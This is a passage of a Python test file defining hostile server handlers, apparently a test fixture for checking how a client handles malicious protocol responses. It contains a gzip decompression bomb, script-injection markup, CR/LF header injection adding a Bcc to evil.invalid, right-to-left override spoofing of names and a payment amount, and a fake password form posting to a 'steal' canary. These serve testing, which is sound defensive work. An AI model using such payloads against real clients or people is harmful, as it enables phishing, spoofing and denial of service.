_BOMB: list[bytes] = []


def _bomb() -> bytes:
    if not _BOMB:
        packer = zlib.compressobj(9, zlib.DEFLATED, 31)  # 31: a gzip header and trailer
        zeros = b"0" * (1 << 20)
        _BOMB.append(b"".join(packer.compress(zeros) for _ in range(200)) + packer.flush())
    return _BOMB[0]


@calls(
    "busy-forever",
    "a round whose resubmission is refused with 429 and Retry-After of 30 years",
    flow="round",
    answer="decline",
    ends=("waiting",),
)
async def _busy_forever(ctx: Ctx, send: Send) -> None:
    if ctx.state is not None:
        headers = (("retry-after", "999999999"),)
        await send_bytes(send, b"busy", status=429, content_type="text/plain", headers=headers)
        return
    request = form("Try me", {"ok": {"type": "boolean"}})
    await reply(ctx, send, input_required({"q": request}, mint_state(ctx, 1)))


@calls(
    "auth-challenge",
    "401 whose WWW-Authenticate points resource metadata at the canary, and markup",
    ends=("failed",),
)
async def _auth_challenge(ctx: Ctx, send: Send) -> None:
    challenge = (
        f'Bearer resource_metadata="{ctx.canary("metadata")}", '
        'error="invalid_token", error_description="<script>window.__pwned=1</script>"'
    )
    body = ctx.markup("401").encode()
    headers = (("www-authenticate", challenge),)
    await send_bytes(send, body, status=401, content_type="text/html", headers=headers)


# == numbers and odd text =========================================================================


@calls(
    "extreme-numbers",
    "1e308, -1e308, -0, 5e-324 and a 300-digit integer in schema bounds, defaults and the result",
    flow="round",
    answer="accept",
)
async def _extreme_numbers(ctx: Ctx, send: Send) -> None:
    if ctx.state is not None:
        await reply(ctx, send, text_result("numbers back", structuredContent=ctx.responses))
        return
    properties = {
        "big": {"type": "number", "minimum": -1e308, "maximum": 1e308, "default": 1e308},
        "zero": {"type": "number", "default": -0.0},
        "tiny": {"type": "number", "default": 5e-324},
        "count": {"type": "integer", "maximum": 10**300, "default": 10**299},
    }
    request = form("Numbers", properties)
    await reply(ctx, send, input_required({"n": request}, mint_state(ctx, 1)))


@calls(
    "nan-infinity",
    "NaN, Infinity and 1e999 (not JSON numbers, or not finite) in a result",
    ends=("failed",),
)
async def _nan_infinity(ctx: Ctx, send: Send) -> None:
    head = json.dumps(envelope(ctx, text_result("nan", structuredContent="@@"))).encode()
    before, after = head.split(b'"@@"')
    await send_bytes(
        send, before + b'{"a": NaN, "b": Infinity, "c": -Infinity, "d": 1e999}' + after
    )


@calls(
    "lone-surrogates",
    "lone UTF-16 surrogates (not Unicode text) in a result",
    ends=("failed",),
)
async def _lone_surrogates(ctx: Ctx, send: Send) -> None:
    # json.dumps escapes them; the body is valid JSON syntax, the text is not valid Unicode.
    await reply(ctx, send, text_result("broken \ud800 text \udfff"))


@calls(
    "surrogate-state",
    "a lone surrogate in a round's requestState",
    ends=("failed",),
)
async def _surrogate_state(ctx: Ctx, send: Send) -> None:
    request = form("Answer me", {"ok": {"type": "boolean"}})
    await reply(ctx, send, input_required({"q": request}, mint_state(ctx, 1) + "\ud800"))


@calls(
    "unfit-progress",
    "progress notifications whose progress is NaN or whose message holds a lone surrogate, "
    "then a sound result",
    says="sound result",
)
async def _unfit_progress(ctx: Ctx, send: Send) -> None:
    await open_stream(send)
    frames = [
        json.dumps(progress(ctx, 1, 3, "one")).replace('"progress": 1', '"progress": NaN'),
        json.dumps(progress(ctx, 2, 3, "two \ud800")),
        json.dumps(progress(ctx, 3, 3, "three")).replace('"total": 3', '"total": 1e999'),
    ]
    for frame in frames:
        await stream(send, b"event: message\ndata: " + frame.encode() + b"\n\n")
        # Slow enough that the engine keeps each one (it writes the latest once a second).
        if await client_left(ctx, 1.1):
            return
    await end_stream(send, sse_frame(envelope(ctx, text_result("sound result"))))


@calls(
    "odd-text",
    "NUL, zero-width, right-to-left override and 10,000 combining marks in result text",
)
async def _odd_text(ctx: Ctx, send: Send) -> None:
    text = (
        "nul:\x00 zw:a\u200b\u200c\u200d\ufeffb rtl:\u202eexe.txt\u202c zalgo:e" + "\u0301" * 10_000
    )
    await reply(ctx, send, text_result(text))


def _rtl_tools(ctx: Ctx) -> list[dict[str, Any]]:
    return [
        tool(title="Safe report \u202eexe.gnp\u202c", description="\u2067isolate\u2069 \u202dlro")
    ]


@calls(
    "rtl-spoof",
    "right-to-left overrides and zero-width characters in the server name, a tool title and "
    "an elicitation message",
    flow="round",
    answer="decline",
    catalog=listing(server_name=lambda ctx: "\u202eelgoog\u200b", tools=_rtl_tools),
)
async def _rtl_spoof(ctx: Ctx, send: Send) -> None:
    if ctx.state is not None:
        await reply(ctx, send, text_result("rtl done"))
        return
    request = form("Pay \u202e001$\u202c to continue", {"ok": {"type": "boolean"}})
    await reply(ctx, send, input_required({"pay": request}, mint_state(ctx, 1)))


# == wrong answers ================================================================================


@calls("garbage-body", "200 application/json whose body is not JSON", ends=("failed",))
async def _garbage(ctx: Ctx, send: Send) -> None:
    await send_bytes(send, b"<<<this is {not json")


@calls(
    "html-content-type",
    "a 200 text/html page full of script instead of JSON-RPC",
    ends=("failed",),
    says="content type",
)
async def _html(ctx: Ctx, send: Send) -> None:
    await send_bytes(send, ctx.markup("html-page").encode(), content_type="text/html")


@calls(
    "server-error-page",
    "HTTP 500 with an HTML page full of script",
    ends=("failed",),
)
async def _server_error_page(ctx: Ctx, send: Send) -> None:
    await send_bytes(send, ctx.markup("500").encode(), status=500, content_type="text/html")


@calls("id-mismatch", "a JSON-RPC response whose id is not the request's", ends=("failed",))
async def _id_mismatch(ctx: Ctx, send: Send) -> None:
    body = {"jsonrpc": "2.0", "id": "someone-else", "result": text_result("not yours")}
    await send_bytes(send, json.dumps(body).encode())


@calls(
    "other-method-result",
    "tools/call answered with a tools/list result",
    ends=("failed",),
)
async def _other_method(ctx: Ctx, send: Send) -> None:
    await reply(ctx, send, {"resultType": "complete", "tools": [tool()], "ttlMs": 0})


@calls("batch-answer", "a JSON array (a batch) instead of one response", ends=("failed",))
async def _batch(ctx: Ctx, send: Send) -> None:
    await send_bytes(send, json.dumps([envelope(ctx, text_result("in a batch"))]).encode())


@calls("unknown-result-type", "resultType 'task', never advertised", ends=("failed",))
async def _unknown_result_type(ctx: Ctx, send: Send) -> None:
    await reply(ctx, send, {"resultType": "task", "taskId": "t1"})


@calls(
    "stream-requests",
    "a server-to-client request and unasked-for notifications on the stream before the result",
    says="after the noise",
)
async def _stream_requests(ctx: Ctx, send: Send) -> None:
    await open_stream(send)
    noise = [
        {"jsonrpc": "2.0", "id": 99, "method": "sampling/createMessage", "params": {}},
        {"jsonrpc": "2.0", "method": "notifications/message", "params": {"level": "info"}},
        {"jsonrpc": "2.0", "method": "notifications/tools/list_changed"},
        {"jsonrpc": "2.0", "method": "evil/notify", "params": {"x": ctx.markup("notify")}},
    ]
    await stream(send, b"".join(sse_frame(n) for n in noise) + b"event: other\ndata: {}\n\n")
    await end_stream(send, sse_frame(envelope(ctx, text_result("after the noise"))))


@calls(
    "redirect",
    "307 to another host: never followed, and the person is told the server redirected",
    ends=("failed",),
    says="redirected",
)
async def _redirect(ctx: Ctx, send: Send) -> None:
    port = ctx.base.rsplit(":", 1)[1]
    target = f"http://localhost:{port}/canary/{ctx.attack}/redirected"
    await send_bytes(
        send, b"", status=307, content_type="text/plain", headers=(("location", target),)
    )


@calls(
    "garbage-on-answer",
    "a round whose resubmission is answered with garbage: the answers are kept, the round "
    "is flagged, nothing stays 'delivering'",
    flow="round",
    answer="decline",
    ends=("waiting",),
)
async def _garbage_on_answer(ctx: Ctx, send: Send) -> None:
    if ctx.state is not None:
        await send_bytes(send, b"{{{ nope")
        return
    request = form("Anything?", {"ok": {"type": "boolean"}})
    await reply(ctx, send, input_required({"q": request}, mint_state(ctx, 1)))


async def _discover_input_required(ctx: Ctx, send: Send) -> None:
    await reply(ctx, send, input_required({"who": form("who are you", {})}, mint_state(ctx, 1)))


async def _tools_not_a_list(ctx: Ctx, send: Send) -> None:
    await reply(ctx, send, {"resultType": "complete", "tools": ctx.markup("tools")})


register(
    "catalog-garbage",
    "server/discover answers with an InputRequiredResult and tools/list with a string",
    catalog={"server/discover": _discover_input_required, "tools/list": _tools_not_a_list},
    flow="probe",
    says="could not be probed",
)


# == headers, secrets and fake forms ===========================================================

_CRLF_NAME = "notify\r\nBcc: victim@evil.invalid\r\nX-Injected: yes"


@calls(
    "header-injection",
    "CR/LF in a tool name that reaches the Mcp-Name header and the round's email subject",
    flow="round",
    answer="decline",
    tool=_CRLF_NAME,
    catalog=listing(tools=lambda ctx: [tool(), tool(_CRLF_NAME)]),
)
async def _header_injection(ctx: Ctx, send: Send) -> None:
    if ctx.state is not None:
        await reply(ctx, send, text_result("headers done"))
        return
    request = form("\r\nBcc: victim@evil.invalid\r\nSubject: hijacked", {"ok": {"type": "boolean"}})
    await reply(ctx, send, input_required({"q": request}, mint_state(ctx, 1)))


@calls(
    "fake-login",
    "a result dressed as the app's own sign-in form, and a form field asking for the password",
    flow="round",
    answer="decline",
)
async def _fake_login(ctx: Ctx, send: Send) -> None:
    if ctx.state is not None:
        fake = (
            "<h1>Your session expired</h1><p>Sign in again to see the result.</p>"
            f'<form method="post" action="{ctx.canary("steal")}" data-pwn="login">'
            '<label>Username <input name="username"></label>'
            '<label>Password <input type="password" name="password"></label>'
            "<button>Sign in</button></form>"
        )
        await reply(ctx, send, text_result(fake))
        return
    request = form(
        "Your mrtrweb session expired. Enter your password to continue.",
        {"password": {"type": "string", "title": "mrtrweb password", "minLength": 8}},
    )
    await reply(ctx, send, input_required({"login": request}, mint_state(ctx, 1)))


@calls(
    "secret-state",
    "a requestState that looks like a private key and a bearer token: never shown, in any page",
    flow="round",
    answer="accept",
    operator=True,
    says="secret echoed",
)
async def _secret_state(ctx: Ctx, send: Send) -> None:
    state = (
        f"{SECRET}:-----BEGIN PRIVATE KEY-----\nMIIE{hashlib.sha256(b'x').hexdigest()}\n"
        f"-----END PRIVATE KEY-----\nAuthorization: Bearer sk_live_{SECRET}"
    )
    if ctx.state is not None:
        verdict = "secret echoed" if ctx.state == state else "secret CHANGED"
        await reply(ctx, send, text_result(verdict))
        return
    request = form("Continue?", {"ok": {"type": "boolean", "default": True}})
    await reply(ctx, send, input_required({"go": request}, state))
